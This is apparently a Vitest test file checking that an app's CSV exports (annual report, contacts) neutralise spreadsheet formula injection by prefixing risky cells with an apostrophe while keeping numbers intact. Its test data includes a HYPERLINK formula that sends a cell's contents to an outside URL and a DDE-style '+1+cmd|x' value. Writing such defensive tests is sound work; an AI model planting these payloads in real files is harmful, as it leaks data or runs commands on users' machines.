// Every CSV the app writes defuses text that a spreadsheet would run as a formula, and only text:
// figures stay numbers. Read back with papaparse, an independent reader of the written file.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { contactsToCsv } from '../../../shared/codecs/contactsCsv';
import { defuseCsvText, toExcelCsv } from '../../../shared/codecs/csv';
import { buildAnnualReport } from '../../../shared/report/annualReport';
import { reportCsv } from '../../../shared/report/reportExportRows';
import { reportInput, settings } from './reportFixture';

const HOSTILE = '=HYPERLINK("https://example.org/?d="&A1;"Adorf")';

function readCsv(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('CSV formula defusing', () => {
  it('the annual report CSV defuses a municipality named like a formula; a fall of 100 % stays -100', () => {
    const input = {
      ...reportInput,
      settings: {
        ...settings,
        lists: {
          ...settings.lists,
          municipalities: settings.lists.municipalities.map((m) =>
            m.id === 'gemeinde-01' ? { ...m, label: HOSTILE } : m,
          ),
        },
      },
    };
    const report = buildAnnualReport(
      input,
      { from: '2026-01-01', to: '2026-12-31' },
      { language: 'de', createdAt: new Date(2027, 0, 10) },
    );
    const rows = readCsv(reportCsv(report));
    const byMunicipality = rows.filter((r) => r[1] === 'Anfragen nach Gemeinde');
    expect(byMunicipality.map((r) => r[2])).toContain(`'${HOSTILE}`);
    expect(rows.flat().filter((cell) => cell.includes('HYPERLINK'))).toEqual([`'${HOSTILE}`, `'${HOSTILE}`]);
    // Volunteers from no stated municipality: 0 this year, 1 the year before, a change of -100 %.
    const fall = rows.find(
      (r) => r[1] === 'Aktive Integrationslotsen nach Gemeinde' && r[2] === 'ohne Angabe',
    );
    expect(fall?.slice(4)).toEqual(['0', '1', '-100']);
  });

  it('the contacts CSV defuses every starting character OWASP names, and only those', () => {
    const contact = {
      firstName: '',
      lastName: '',
      organisation: '',
      function: '',
      email: '',
      phone: '',
      mobile: '',
      address: '',
    };
    const starts = [
      '=1+1',
      '+1+cmd|x',
      '+49 3941 (0) 12-34',
      '-5',
      '@SUM(A1)',
      '\tx',
      '\rx',
      'Anna',
      "'quoted",
      ' =1',
    ];
    const csv = contactsToCsv(starts.map((notes) => ({ ...contact, organisation: 'KI', notes })));
    const notes = readCsv(csv)
      .slice(1)
      .map((r) => r[8]);
    expect(notes).toEqual([
      "'=1+1",
      "'+1+cmd|x",
      // A phone number in international form can run nothing: Outlook gets it as it is.
      '+49 3941 (0) 12-34',
      "'-5",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'Anna',
      "'quoted",
      ' =1',
    ]);
  });

  it('numbers are written as figures with a decimal comma, text that looks like one is defused', () => {
    const csv = toExcelCsv(
      [
        [-3, -1.5, 0, null],
        ['-3', '+1', '1,5', ''],
      ],
      { decimalComma: true },
    );
    expect(readCsv(csv)).toEqual([
      ['-3', '-1,5', '0', ''],
      ["'-3", "'+1", '1,5', ''],
    ]);
    expect(defuseCsvText('Jobcenter')).toBe('Jobcenter');
  });
});
